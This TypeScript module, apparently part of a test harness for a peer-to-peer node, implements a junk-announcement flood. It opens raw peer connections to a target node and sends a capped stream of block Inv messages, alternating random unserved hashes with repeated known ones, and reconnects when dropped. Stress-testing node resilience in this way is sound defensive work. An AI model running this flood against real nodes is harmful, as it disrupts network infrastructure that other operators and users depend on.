import { randomBytes } from "node:crypto";
import { hexToBytes, InventoryType } from "astram-core";
import { sleep } from "../wait.js";
import { RawPeer } from "./raw-peer.js";

export interface JunkFloodOptions {
  /** The target's public (relay) address. */
  readonly host: string;
  readonly port: number;
  /** The attacker's own address. */
  readonly from: string;
  /** Hashes the network already has (announced again and again: duplicates). */
  readonly knownHashes: () => readonly string[];
  /** Announcements per second, and at most this many in all. */
  readonly perSecond: number;
  readonly maxAnnouncements: number;
}

/**
 * Floods a node with junk block announcements: Inv of random hashes (unknown, then never served)
 * alternating with repeated Inv of blocks the node already has. Reconnects (bounded) when dropped;
 * a banned address is refused, which ends the attack early. Bounded in count and by `signal`.
 */
export async function floodJunkAnnouncements(
  o: JunkFloodOptions,
  signal: AbortSignal,
): Promise<{ sent: number; connections: number; dropped: number }> {
  let sent = 0;
  let connections = 0;
  let dropped = 0;
  const gapMs = Math.max(1, Math.round(1000 / o.perSecond));
  while (!signal.aborted && sent < o.maxAnnouncements && connections < 10) {
    const peer = await RawPeer.open(o.host, o.port, o.from);
    if (!peer) break;
    connections++;
    peer.handshake();
    while (!signal.aborted && !peer.closed && sent < o.maxAnnouncements) {
      const known = o.knownHashes();
      const hash =
        sent % 2 === 0 || known.length === 0
          ? new Uint8Array(randomBytes(32))
          : hexToBytes(known[sent % known.length]!);
      peer.send({ type: "Inv", objectType: InventoryType.Block, hashes: [hash] });
      sent++;
      await sleep(gapMs, signal);
    }
    if (peer.closed) dropped++;
    peer.close();
    await sleep(1000, signal);
  }
  return { sent, connections, dropped };
}
